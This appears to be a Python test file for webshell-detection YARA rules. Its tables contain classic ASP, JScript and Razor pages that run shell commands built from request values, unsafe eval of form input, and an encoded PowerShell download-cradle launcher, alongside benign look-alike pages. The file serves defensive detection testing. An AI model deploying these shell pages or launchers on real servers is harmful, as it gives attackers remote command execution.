"""Rules from the twenty-second unseen collection: shells in the languages and file kinds seen least - VB.NET,
JScript.NET, handlers and services, Razor pages and web.config files, classic ASP (issue 14, helper X22).

On first sight the own rules missed 11 of the collection's 13 classic-ASP ``.asp`` shells (BENCHMARKS.md,
"Unseen shells, twenty-second collection: the languages and kinds we see least"): the behaviour analysis reads
no ``.asp`` file, and no YARA rule of ours named ``WScript.Shell`` asked to run a command built from the request.
The same code pasted into a ``.aspx`` or a ``web.config`` was found. ``EXT_WEBSHELL_Classic_ASP_Shell_Object_Request``
(``data/rules/classic_asp_and_razor.yar``) takes the shape: WScript.Shell created by name, and either a request
value handed to ``.Exec``/``.Run`` in the same statement, or a variable run through ``.Exec`` whose ``StdOut`` is
read back in a page that reads the request. Two Razor pages that start a fixed interpreter or script from the
page were missed by everything: ``EXT_WEBSHELL_Razor_Page_Starts_Interpreter``. One classic-ASP launcher (a
generator's ``x.run "cmd.exe /c powershell.exe ... -encodedCommand <base64>"``) was missed because
``EXT_WEBSHELL_Encoded_PowerShell_Launcher`` wanted an ASP.NET directive or ``runat=server``: a classic code block
driving WScript.Shell now counts as a page for it. A third batch brought three JScript pages found by the
behaviour analysis only - the "unsafe" eval of a variable, with the option in a variable or hex-escaped:
``EXT_WEBSHELL_JScript_Eval_Security_Option`` (``data/rules/hidden_eval_code.yar``) names any two-argument
``eval`` in JScript server code.

Known limit, kept on purpose: a classic page that runs a *constant* through ``.Exec(NAME)``, reads its StdOut
and reads the request for something else looks like the variable-command shape and is named.

The classic-ASP tables are also the harmless reproductions asked of the behaviour analysis (A5, 20:45 UTC):
CLASSIC_ASP_SHELLS should be found once ``.asp``/``.asa``/``.cer``/``.cdx`` files are analysed, and
CLASSIC_ASP_ORDINARY must raise nothing at all (``test_ordinary_classic_page_raises_nothing``). All pages were
written for these tests: nothing is compiled or run, names and keys are placeholders, and none is a copy of
a real shell.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, quiet_pages_test, rule_tables

CLASSIC_ASP_SHELLS: list[Page] = [
    (
        "classic-oneline-exec-request",
        ".asp",
        '<% Response.Write CreateObject("WScript.Shell").Exec("cmd /c " & Request("q")).StdOut.ReadAll %>',
    ),
    (
        "classic-run-form-value",
        ".asp",
        '<%@ Language=VBScript %>\n<%\nSet w = Server.CreateObject("WScript.Shell")\n'
        'w.Run "cmd /c " & Request.Form("q"), 0, True\n%>\n<p>done</p>',
    ),
    (
        "classic-variable-command-stdout",
        ".cer",
        '<%\nDim q, sh, r\nq = Request.QueryString("q")\nIf q <> "" Then\n'
        '  Set sh = Server.CreateObject("WScript.Shell")\n  Set r = sh.Exec("cmd.exe /c " & q)\n'
        '  Response.Write "<pre>" & Server.HTMLEncode(r.StdOut.ReadAll()) & "</pre>"\nEnd If\n%>\n'
        '<form method="get"><input name="q"><input type="submit"></form>',
    ),
    (
        "classic-form-variable-exec",
        ".cdx",
        '<%\nv = Request.Form("v")\nSet o = CreateObject("WSCRIPT.SHELL")\nSet x = o.Exec(v)\n'
        "Response.Write x.StdOut.ReadLine()\n%>",
    ),
    (
        "classic-jscript-activex",
        ".asp",
        '<%@ Language=JScript %>\n<%\nvar o = new ActiveXObject("WScript.Shell");\n'
        'var r = o.Exec("cmd /c " + Request("q"));\nResponse.Write(r.StdOut.ReadAll());\n%>',
    ),
]

CLASSIC_ASP_ORDINARY: list[Page] = [
    (
        "classic-environment-reader",
        ".asp",
        '<%\nSet sh = Server.CreateObject("WScript.Shell")\nSet env = sh.Environment("PROCESS")\n'
        'Response.Write "Hello " & Server.HTMLEncode(Request("name")) & " on " & env("COMPUTERNAME")\n%>',
    ),
    (
        "classic-event-log-of-visitor",
        ".asp",
        '<%@ LANGUAGE="VBSCRIPT" %>\n<%\nmsg = "Visit from " & Request.ServerVariables("REMOTE_ADDR")\n'
        'Set sh = Server.CreateObject("WScript.Shell")\nsh.LogEvent 4, msg\n%>\n<p>Logged.</p>',
    ),
    (
        "classic-fixed-netstat-behind-token",
        ".asp",
        '<%\nIf Request.QueryString("token") <> "placeholder" Then Response.End\n'
        'Set sh = Server.CreateObject("WScript.Shell")\n'
        'n = sh.Run("cmd /c netstat -ano | findstr :4001 > NUL", 0, True)\n'
        'If n = 0 Then Response.Write "listening" Else Response.Write "down"\n%>',
    ),
    (
        "classic-fixed-version-output-and-paging",
        ".asp",
        '<%\npage = Request("page")\nSet sh = Server.CreateObject("WScript.Shell")\n'
        'Set r = sh.Exec("cmd /c ver")\nResponse.Write Server.HTMLEncode(r.StdOut.ReadAll) & " page " & page\n%>',
    ),
    (
        "classic-form-echo-no-shell",
        ".asp",
        '<%\nq = Request.Form("q")\nResponse.Write "You asked to run: " & Server.HTMLEncode(q)\n%>',
    ),
]

RAZOR_RUNNERS: list[Page] = [
    (
        "razor-functions-helper-cmd",
        ".cshtml",
        "@using System.Diagnostics;\n@functions {\n  string Run(string file, string args) {\n"
        "    var psi = new ProcessStartInfo { FileName = file, Arguments = args, RedirectStandardOutput = true,"
        " UseShellExecute = false };\n    return Process.Start(psi).StandardOutput.ReadToEnd();\n  }\n}\n"
        '@{ var text = Run("cmd.exe", "/c ver"); }\n<pre>@text</pre>',
    ),
    (
        "razor-page-starts-script",
        ".cshtml",
        '@page\n@model IndexModel\n@System.Diagnostics.Process.Start("/tmp/probe.sh", "x")\n<h1>Index</h1>',
    ),
    (
        "vbhtml-code-block-powershell",
        ".vbhtml",
        '@Code\n  Dim p = System.Diagnostics.Process.Start("powershell.exe", "-c Get-Date")\nEnd Code\n<p>ok</p>',
    ),
]

RAZOR_ORDINARY: list[Page] = [
    (
        "razor-footer-process-start-time",
        ".cshtml",
        "@using System.Diagnostics\n<small>@Environment.MachineName - "
        "@System.Diagnostics.Process.GetCurrentProcess().StartTime.ToString() UTC</small>",
    ),
    (
        "razor-help-page-names-cmd",
        ".cshtml",
        '@{ ViewBag.Title = "Help"; }\n<p>Open "cmd.exe" and type <code>ipconfig</code> to see your address.</p>',
    ),
    (
        "razor-runs-dotnet-info",
        ".cshtml",
        '@using System.Diagnostics\n@{\n  var p = Process.Start(new ProcessStartInfo("dotnet", "--info")'
        " { RedirectStandardOutput = true });\n}\n<pre>@p.StandardOutput.ReadToEnd()</pre>",
    ),
]

_B64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBh" * 3

CLASSIC_LAUNCHERS: list[Page] = [
    (
        "classic-run-encoded-powershell",
        ".asp",
        f'<%\n\tset lnch = CreateObject("WScript.Shell")\n\tlnch.run "cmd.exe /c powershell.exe -noprofile '
        f'-encodedCommand {_B64}"\n%>',
    ),
]

CLASSIC_LAUNCHERS_ORDINARY: list[Page] = [
    (
        "classic-help-text-quotes-encoded-command",
        ".asp",
        f'<%\nResponse.Write "To test, an administrator runs: powershell -enc {_B64}"\n%>',
    ),
]

JSCRIPT_EVAL_OPTION: list[Page] = [
    (
        "jscript-variable-then-eval-unsafe",
        ".aspx",
        '<%@ Page Language="Jscript" %>\n<%\nvar v = Request.Form["v"];\nResponse.Write(eval(v, "unsafe"));\n%>',
    ),
    (
        "jscript-option-in-variable",
        ".aspx",
        '<script runat="server" language="JScript">\nfunction run(s) { var o = "un" + "saf" + "e"; var opt = o;'
        " return eval(s, opt); }\n</script>\n<% run(Request.Item[\"v\"]); %>",
    ),
    (
        "jscript-eval-on-next-line-hex-option",
        ".aspx",
        '<%@PAGE LANGUAGE=JSCRIPT%>\n<%var q:String=Request["v"];eval\n(q,"\\x75\\x6E\\x73\\x61\\x66\\x65");%>',
    ),
]

JSCRIPT_EVAL_OPTION_ORDINARY: list[Page] = [
    (
        "jscript-data-binding-eval-format",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<asp:Repeater id="R" runat="server"><ItemTemplate>'
        '<%# Eval("Price", "{0:c}") %> <%# DataBinder.Eval(Container.DataItem, "Name") %>'
        "</ItemTemplate></asp:Repeater>",
    ),
    (
        "jscript-eval-of-constant-expression",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<% var total = eval("2 + 3"); Response.Write(Math.max(total, 4)); %>',
    ),
    (
        "browser-script-eval-two-arguments",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script type="text/javascript">var r = window.eval("1", 2);'
        " setTimeout(function () { go(1, 2); }, 10);</script>",
    ),
]

CASES: list[RuleCase] = [
    ("EXT_WEBSHELL_Classic_ASP_Shell_Object_Request", CLASSIC_ASP_SHELLS, CLASSIC_ASP_ORDINARY),
    ("EXT_WEBSHELL_Razor_Page_Starts_Interpreter", RAZOR_RUNNERS, RAZOR_ORDINARY),
    ("EXT_WEBSHELL_Encoded_PowerShell_Launcher", CLASSIC_LAUNCHERS, CLASSIC_LAUNCHERS_ORDINARY),
    ("EXT_WEBSHELL_JScript_Eval_Security_Option", JSCRIPT_EVAL_OPTION, JSCRIPT_EVAL_OPTION_ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)

test_ordinary_classic_page_raises_nothing = quiet_pages_test(CLASSIC_ASP_ORDINARY + CLASSIC_LAUNCHERS_ORDINARY)
test_ordinary_razor_page_raises_nothing = quiet_pages_test(RAZOR_ORDINARY)
